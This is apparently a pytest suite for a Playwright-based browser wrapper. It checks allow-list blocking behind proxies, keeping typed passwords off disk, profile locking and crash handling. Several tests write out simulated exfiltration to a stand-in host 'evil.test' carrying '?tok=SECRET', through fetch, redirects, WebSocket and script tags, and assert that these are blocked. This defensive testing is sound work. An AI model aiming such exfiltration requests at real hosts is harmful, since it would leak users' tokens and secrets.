"""Starting and losing the browser: one process at a time, what it leaves on disk, the person's proxy, crashes."""

from __future__ import annotations

import os
import signal
import socket
import ssl
import stat
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import FULL, SHELL, Site

from readdress.browser import Settings, Way, launched
from readdress.browser.profile import LOCK, held
from readdress.errors import BrowserBusy, BrowserError, NeedsPerson


def test_behind_the_persons_proxy_a_forbidden_host_is_still_not_reached(
    tmp_path: Path, site: Site, stranger: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With ``http_proxy`` set the browser handed names to that proxy, round the resolver rules. Ours stands before it."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as upstream:
        upstream.settimeout(0.1)
        stop = threading.Event()

        def serve() -> None:
            while not stop.is_set():
                try:
                    line, _ = upstream.accept()
                except TimeoutError:
                    continue
                with line:
                    asked.append(line.recv(4096))
                    line.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nno")

        thread = threading.Thread(target=serve)
        thread.start()
        address = f"http://127.0.0.1:{upstream.getsockname()[1]}"
        for name in ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY"):
            monkeypatch.setenv(name, address)
        try:
            site.pages["/page"] = "<p>hello"
            with launched(Settings(tmp_path / "p", headless=True, executable=SHELL)) as browser:
                browser.allow([site.host, "service.test"], [])
                browser.open(f"{site.base}/page")
                for target in (
                    "http://evil.test/?tok=SECRET",
                    "https://evil.test/?tok=SECRET",
                    f"{stranger.base}/?tok=SECRET",
                ):
                    browser.page.evaluate("u => fetch(u, {mode: 'no-cors'}).catch(e => 0)", target)
                assert asked == []
                assert {"evil.test:80", "evil.test:443", stranger.host} <= set(browser.blocked())
                browser.page.evaluate("fetch('https://service.test/').catch(e => 0)")
                assert [a.split(b"\r\n")[0] for a in asked][:1] == [b"CONNECT service.test:443 HTTP/1.1"]
        finally:
            stop.set()
            thread.join()
    assert stranger.connections == 0


def test_nothing_readable_or_telling_stays_on_disk(
    tmp_path: Path, site: Site, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """A trace held the password in clear, the storage was 0644, and DEBUG made the driver print what was typed."""
    monkeypatch.setenv("DEBUG", "pw:*")
    monkeypatch.setenv("SSLKEYLOGFILE", str(tmp_path / "keys.log"))
    site.pages["/form"] = (200, {"Set-Cookie": "session=1; Max-Age=9999"}, "<form><input type=password name=p></form>")
    folder = tmp_path / "profile"
    with launched(Settings(folder, headless=True, executable=SHELL)) as browser:
        browser.allow([site.host], [])
        browser.open(f"{site.base}/form")
        browser.type_secret(browser.page.locator("input"), "correct horse battery")
        browser.screenshot(tmp_path / "shot.png")
    assert stat.S_IMODE((tmp_path / "shot.png").stat().st_mode) == 0o600
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    open_to_others = [p for p in folder.rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o077]
    assert open_to_others == []
    for path in tmp_path.rglob("*"):
        assert (
            path.suffix not in {".zip", ".har", ".webm", ".log"}
            or "leveldb" in str(path)
            or path.name.endswith("00003.log")
        ), path
        if path.is_file() and not path.is_symlink():
            assert b"correct horse battery" not in path.read_bytes(), path
    out = capfd.readouterr()
    assert "correct horse" not in out.out + out.err
    assert os.environ["DEBUG"] == "pw:*"


def test_https_replicas_and_a_redirect_between_names(
    tmp_path: Path, make_site: Callable[..., Site], tls: tuple[ssl.SSLContext, str]
) -> None:
    """The names resolve for the proxy, and the other server would answer: only the allow-list stands between them."""
    service, evil = (
        make_site({"/": "<input type=password id=p>"}, tls_name="service.test"),
        make_site({"/": "leaked"}, tls_name="evil.test"),
    )
    service.pages["/go"] = (302, {"Location": "https://evil.test/?tok=SECRET"}, "")
    service.pages["/link"] = (
        "<a href='https://evil.test/?tok=SECRET'>away</a><script src='https://evil.test/x.js'></script>"
    )
    way = Way(reroute={"service.test": ("127.0.0.1", service.port), "evil.test": ("127.0.0.1", evil.port)})
    with launched(
        Settings(tmp_path / "p", headless=True, executable=SHELL, way=way, trusted_keys=(tls[1],))
    ) as browser:
        browser.allow(["service.test"], [])
        browser.open("https://service.test/")
        assert browser.on_site() and browser.url == "https://service.test/"
        browser.type_secret(browser.page.locator("#p"), "pw")
        with pytest.raises(NeedsPerson) as caught:
            browser.open("https://service.test/go")
        assert caught.value.kind == "blocked_host" and caught.value.url.startswith("https://evil.test/")
        browser.open("https://service.test/link")
        browser.page.evaluate(
            "new Promise(r => { const w = new WebSocket('wss://evil.test/'); w.onopen = w.onerror = r })"
        )
        browser.page.get_by_text("away").click()
        browser.pump(0.2)
        assert not browser.on_site() and browser.blocked() == ["evil.test:443"]
        assert evil.connections == 0
        browser.allow(["service.test"], ["evil.test"])  # as an asset it may be loaded, and is still not the site
        browser.open("https://service.test/link")
        browser.page.get_by_text("away").click()
        browser.pump(0.2)
        assert evil.hits[-1] == "GET /?tok=SECRET" and not browser.on_site()
        browser.allow(["evil.test:444"], [])
        with pytest.raises(NeedsPerson):
            browser.open("https://evil.test/")


def test_a_replicas_certificate_is_not_good_without_its_key_being_named(
    tmp_path: Path, make_site: Callable[..., Site]
) -> None:
    """Nothing but the test option makes a certificate good that does not verify."""
    service = make_site({"/": "x"}, tls_name="service.test")
    way = Way(reroute={"service.test": ("127.0.0.1", service.port)})
    with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=way)) as browser:
        browser.allow(["service.test"], [])
        with pytest.raises(BrowserError, match="certificate"):
            browser.open("https://service.test/")
    assert service.hits == []


def test_a_driver_that_dies_is_an_error_with_a_next_step(tmp_path: Path, site: Site) -> None:
    """Playwright's own helper process may be killed too (memory, an update)."""
    site.pages["/page"] = "<p>hello<input>"
    before = _children()
    with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=Way())) as browser:
        browser.allow([site.host], [])
        browser.open(f"{site.base}/page")
        locator = browser.page.locator("input")
        for child in _children() - before:
            os.kill(child, signal.SIGKILL)
        browser.pump(0.3)
        assert not browser.alive() and not browser.on_site()
        for call in (
            lambda: browser.open(f"{site.base}/page"),
            lambda: browser.read(locator),
            lambda: browser.type_secret(locator, "x"),
        ):
            with pytest.raises(BrowserError, match="window was closed"):
                call()


def _children() -> set[int]:
    """The processes that this one started."""
    return {int(n) for n in Path(f"/proc/self/task/{os.getpid()}/children").read_text().split()}


def test_a_second_start_says_who_holds_the_profile(tmp_path: Path) -> None:
    """One process at a time, and the refusal names the other one."""
    code = "import sys; from pathlib import Path; from readdress.browser.profile import held\nwith held(Path(sys.argv[1])): print('held', flush=True); sys.stdin.read()"
    other = subprocess.Popen(
        [sys.executable, "-c", code, str(tmp_path / "p")], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert other.stdin is not None and other.stdout is not None
    try:
        assert other.stdout.readline() == "held\n"
        with (
            pytest.raises(BrowserBusy, match=f"process {other.pid} "),
            launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=Way())),
        ):
            pass
        os.kill(other.pid, signal.SIGKILL)
        other.wait(5)
        with held(tmp_path / "p") as folder:  # a dead process holds nothing
            assert str(os.getpid()) in (folder / LOCK).read_text()
    finally:
        other.kill()
        other.stdin.close()
        other.stdout.close()
        other.wait(5)


def test_the_mark_of_a_dead_browser_is_taken_over_and_that_of_a_live_one_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A browser killed with us, or in a container of another name, leaves SingletonLock behind, and the next start would fail."""
    folder = tmp_path / "p"
    folder.mkdir()
    for left in (
        f"{socket.gethostname()}-999999999",
        "another-machine-1",
        "nonsense",
        f"{socket.gethostname()}-{os.getpid()}",
    ):
        (folder / "SingletonLock").symlink_to(left)
        with held(folder):
            assert not (folder / "SingletonLock").is_symlink(), left
    # A live process whose command line names this profile is a browser that is still running.
    code = "import sys; sys.stdin.read()"
    live = subprocess.Popen([sys.executable, "-c", code, f"--user-data-dir={folder}"], stdin=subprocess.PIPE)
    try:
        (folder / "SingletonLock").symlink_to(f"{socket.gethostname()}-{live.pid}")
        monkeypatch.setattr("readdress.browser.profile.LEFTOVER_WAIT", 0.2)
        with pytest.raises(BrowserBusy, match=str(live.pid)), held(folder):
            pass
    finally:
        live.kill()
        assert live.stdin is not None
        live.stdin.close()
        live.wait(5)


def test_a_profile_that_cannot_be_made_is_a_sentence(tmp_path: Path) -> None:
    """A file where the folder should be is told, not thrown."""
    (tmp_path / "file").write_text("x")
    with pytest.raises(BrowserError, match="cannot be used"), held(tmp_path / "file"):
        pass


def test_the_whole_chromium_works_too_and_speaks_chinese(tmp_path: Path, site: Site) -> None:
    """Most people have no headless shell: the ordinary browser, through the same walls, with the same profile rules."""
    site.pages["/page"] = "<p id=p>hello<input type=password>"
    with launched(Settings(tmp_path / "p", headless=True, executable=FULL, lang="zh", way=Way())) as browser:
        browser.allow([site.host], [])
        browser.open(f"{site.base}/page")
        assert browser.page.evaluate("navigator.language") == "zh-CN"
        assert browser.read(browser.page.locator("#p")).pieces[0].text == "hello"
        browser.type_secret(browser.page.locator("input"), "pass")
        assert browser.page.evaluate("fetch('https://update.googleapis.com/').catch(e => 'no')") == "no"
        browser.pump(0.5)
        assert browser.blocked() == [
            "update.googleapis.com:443"
        ]  # and nothing that the browser asks of its maker by itself
    assert not [p for p in (tmp_path / "p").rglob("*") if not p.is_symlink() and p.stat().st_mode & 0o077]


def _browsers_of(folder: Path) -> list[int]:
    """The main process of the browser that uses that profile, and its start script."""
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                command = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if os.fsencode(f"--user-data-dir={folder}") in command and not any(
                c.startswith(b"--type=") for c in command
            ):
                found.append(int(entry.name))
    assert found
    return found


def test_a_browser_that_is_killed_is_an_error_with_a_next_step(tmp_path: Path, site: Site) -> None:
    """The person closes the window, or the system kills it: every call says so, none hangs, pumping goes on."""
    site.pages["/page"] = "<p>hello<input>"
    with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=Way())) as browser:
        browser.allow([site.host], [])
        browser.open(f"{site.base}/page")
        locator = browser.page.locator("input")
        for process in _browsers_of(tmp_path / "p"):
            os.kill(process, signal.SIGKILL)
        browser.pump(0.5)
        assert not browser.alive() and browser.url == "" and not browser.on_site() and browser.settle(0.1) is False
        for call in (
            lambda: browser.open(f"{site.base}/page"),
            lambda: browser.read(locator),
            lambda: browser.type_secret(locator, "s3cret"),
            lambda: browser.screenshot(tmp_path / "x.png"),
            lambda: browser.page,
        ):
            with pytest.raises(BrowserError, match="window was closed") as caught:
                call()
            assert caught.value.todo
    with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=Way())) as browser:
        assert browser.alive()  # and the profile can be used again


def test_a_browser_that_does_not_start_is_a_sentence(tmp_path: Path) -> None:
    """A wrong program, and a window without a screen."""
    settings = Settings(tmp_path / "p", headless=True, executable=Path("/bin/false"), way=Way())
    with pytest.raises(BrowserError, match="did not start") as caught, launched(settings):
        pass
    assert "READDRESS_BROWSER" in caught.value.todo


def test_a_window_without_a_screen_is_a_sentence(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Over ssh there is no screen: the next step is the headless option."""
    monkeypatch.delenv("DISPLAY", raising=False)
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    with pytest.raises(BrowserError, match="no screen"), launched(Settings(tmp_path / "p", executable=FULL, way=Way())):
        pass


def test_inside_an_asyncio_loop_it_says_what_to_do(tmp_path: Path) -> None:
    """Playwright's sync API refuses there; a library user must learn the way out."""
    import asyncio

    async def inside() -> None:
        with launched(Settings(tmp_path / "p", headless=True, executable=SHELL, way=Way())):
            pass

    with pytest.raises(BrowserError, match="asyncio"):
        asyncio.run(inside())


def test_importing_the_adapter_does_not_load_playwright() -> None:
    """Reading commands must not pay for it."""
    code = "import readdress.browser, sys; print([m for m in sys.modules if m.startswith('playwright')])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
